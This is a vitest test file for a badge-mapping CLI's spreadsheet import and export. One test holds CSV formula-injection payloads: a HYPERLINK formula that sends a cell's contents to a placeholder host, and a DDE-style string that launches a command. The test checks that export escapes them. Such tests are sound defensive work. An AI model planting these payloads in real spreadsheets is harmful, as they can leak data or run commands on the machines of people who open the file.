/** Import, export as a spreadsheet, import again: the same definitions, and no writes. */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import { describe, expect, it } from 'vitest';

import { PROJECT_ROOT, runCli } from '../helpers/cli.js';
import { importJson, tempRepo } from './helpers.js';

const MAPPING = [
  'Competency,Badge,Evidence,Rubric / Benchmarks,Assessment method,Notes,Badge Image',
  'Detects SQL injection in a sample web app,Injection Detection,report: Annotated findings,Finds the injection point,Hands-on lab,first,https://badges.example.org/a.png',
  'Explains the impact of an injection flaw,Injection Detection,code: A fix for the flaw,Names the class of flaw,reviewer-rubric,,https://badges.example.org/a.png',
  'Writes parameterised queries,Secure Coding,project: A refactored data layer,,hands-on-lab,"quoted, text",https://badges.example.org/b.png',
  '',
].join('\r\n');

function definitionFiles(root: string): Record<string, string> {
  const folder = path.join(root, 'imported');
  return Object.fromEntries(fs.readdirSync(folder).sort().map((name) => [name, fs.readFileSync(path.join(folder, name), 'utf8')]));
}

describe('spreadsheet round trip', { timeout: 60_000 }, () => {
  it('import, export, import again', () => {
    const first = tempRepo({ 'mapping.csv': MAPPING });
    const imported = importJson(first, ['mapping.csv']).report;
    expect(imported.plan.map((entry) => `${entry.action} ${entry.kind} ${entry.id}`)).toEqual([
      'create competency detects-sql-injection-in-a-sample-web-app',
      'create competency explains-the-impact-of-an-injection-flaw',
      'create competency writes-parameterised-queries',
      'create badge injection-detection',
      'create badge secure-coding',
    ]);
    expect(imported.problems.filter((problem) => problem.messageId === 'vocabulary')).toHaveLength(1);

    for (const target of ['csv', 'xlsx']) {
      const exported = runCli(['export', '--target', target, '--out', 'out', '--today', '2026-12-04'], { cwd: first });
      expect(exported.status, exported.stderr).toBe(0);

      const second = tempRepo();
      importJson(second, [path.join(first, 'out', `mapping.${target}`)]);
      expect(definitionFiles(second)).toEqual(definitionFiles(first));

      const again = importJson(first, [path.join(first, 'out', `mapping.${target}`)]).report;
      expect(again.written).toEqual([]);
      expect(new Set(again.plan.map((entry) => entry.action))).toEqual(new Set(['unchanged']));
    }
  });

  it('second identical import writes nothing', () => {
    const root = tempRepo({ 'mapping.csv': MAPPING });
    importJson(root, ['mapping.csv']);
    const before = definitionFiles(root);
    const again = importJson(root, ['mapping.csv']).report;
    expect(again.written).toEqual([]);
    expect(definitionFiles(root)).toEqual(before);
  });

  it('guards formula cells and reads them back', () => {
    const definitions = [
      'competencies:',
      `  - id: inj-eq`,
      `    statement: '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'`,
      `  - id: inj-plus`,
      `    statement: "+cmd|' /C calc'!A0"`,
      `  - id: "=id"`,
      `    statement: "'=already quoted"`,
      '---',
      'kind: badge',
      'id: inj-badge',
      'name: "-1+2"',
      'description: "@risky description"',
      'image: https://badges.example.org/a.png',
      'competencies: [inj-eq, inj-plus, "=id"]',
      'evidence: [{ type: project, description: "A project" }]',
      '',
    ].join('\n');
    const root = tempRepo({ 'defs.yaml': definitions });
    const exported = runCli(['export', '--target', 'csv', '--out', 'out', '--today', '2026-12-04'], { cwd: root });
    expect(exported.status, exported.stderr).toBe(0);

    const sheet = fs.readFileSync(path.join(root, 'out', 'mapping.csv'), 'utf8');
    expect(sheet).toContain(`,"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Click"")",`);
    expect(sheet).toContain(",'+cmd|' /C calc'!A0,");
    expect(sheet).toMatch(/^'=id,/m);
    expect(sheet).toContain(",''=already quoted,");
    expect(sheet).toContain(",'-1+2,'@risky description,");
    expect(sheet).not.toMatch(/(^|,)[=+\-@]/m);

    const again = importJson(root, [path.join(root, 'out', 'mapping.csv')]).report;
    expect(again.written).toEqual([]);
    expect(new Set(again.plan.map((entry) => entry.action))).toEqual(new Set(['unchanged']));
  });

  it('export is byte for byte stable', () => {
    const examples = path.join(PROJECT_ROOT, 'examples');
    const outputs = [1, 2].map((run) => {
      const out = fs.mkdtempSync(path.join(os.tmpdir(), `badgemap-export-${run}-`));
      const result = runCli(['export', '--target', 'csv', '--target', 'xlsx', '--out', out, '--today', '2026-12-04'], { cwd: examples });
      expect(result.status, result.stderr).toBe(0);
      return ['mapping.csv', 'mapping.xlsx'].map((name) => fs.readFileSync(path.join(out, name)));
    });
    expect(Buffer.compare(outputs[0]![0]!, outputs[1]![0]!)).toBe(0);
    expect(Buffer.compare(outputs[0]![1]!, outputs[1]![1]!)).toBe(0);
  });

  it('edits keep comments and key order', () => {
    const existing = '# hand-written\ncompetencies:\n  - id: keep-me # a note\n    statement: Old text\n    level: apply\n';
    const root = tempRepo({ 'defs.yaml': existing, 'sheet.csv': 'id,statement\nkeep-me,New text\nnew-one,Writes a test\n' });
    const report = importJson(root, ['sheet.csv']).report;
    expect(report.plan.map((entry) => `${entry.action} ${entry.id} ${entry.fields.join(',')}`)).toEqual(['update keep-me statement', 'create new-one ']);
    expect(fs.readFileSync(path.join(root, 'defs.yaml'), 'utf8')).toBe('# hand-written\ncompetencies:\n  - id: keep-me # a note\n    statement: New text\n    level: apply\n');
  });
});
